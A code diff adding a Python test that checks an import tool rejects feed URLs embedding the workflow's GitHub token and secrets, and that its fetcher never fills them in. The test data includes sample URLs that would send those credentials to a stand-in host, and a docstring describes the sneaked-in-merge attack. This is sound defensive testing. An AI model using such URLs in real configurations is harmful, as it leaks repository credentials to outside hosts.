@@ -1020,6 +1020,28 @@ def test_a_written_out_secret_in_a_feed_is_an_error_that_does_not_repeat_it(tree
     assert "import.feeds[2]" not in text
 
 
+def test_a_feed_never_takes_the_runs_own_credentials(tree: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    """The import workflow has the repository's token (GH_TOKEN, to open pull requests) and all
+    its secrets (LOTSE_SECRETS) in its environment: a feed address naming one of them, merged
+    with an innocent-looking change to site.yaml, would send it to the catalogue's host. The
+    check refuses such a name before the merge, and the fetcher never fills it in."""
+    feeds = [
+        {"provider": "vhs-esslingen", "format": "openvhs", "url": "https://sammler.example/k.xml?t=${GH_TOKEN}"},
+        {"provider": "bfz", "format": "openqcat", "url": "https://${GITHUB_ACTOR}:${LOTSE_SECRETS}@sammler.example/q.xml"},
+        {"provider": "ok", "format": "openqcat", "url": "https://kurse.example/qcat.xml?key=${OK_KEY}"},
+    ]
+    edit_site(tree, lambda site: site["import"].update(feeds=feeds))
+    assert main(["validate", "--source", str(tree)]) == 1
+    text = "".join(capsys.readouterr())
+    assert "import.feeds[0].url: setzt ${GH_TOKEN} ein: das sind Zugangsschlüssel von GitHub bzw. des Import-Laufs" in text
+    assert "z. B. ${VHS_ESSLINGEN_KEY}" in text
+    assert "import.feeds[1].url: setzt ${GITHUB_ACTOR}, ${LOTSE_SECRETS} ein" in text and "import.feeds[2]" not in text
+    monkeypatch.setenv("GH_TOKEN", "ghs_token_des_laufs")
+    with pytest.raises(FetchError) as raised:
+        fetch("https://sammler.example/k.xml?t=${GH_TOKEN}", "openqcat")
+    assert "${GH_TOKEN} ist ein Zugangsschlüssel des Laufs" in str(raised.value) and "ghs_token" not in str(raised.value)
+
+
 def test_feed_setting_is_declared_and_checked(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
     edit_site(tree, lambda site: site["import"].update(feeds=[{"provider": "x", "format": "pdf", "url": "ftp://x"}]))
     assert main(["validate", "--source", str(tree)]) == 1
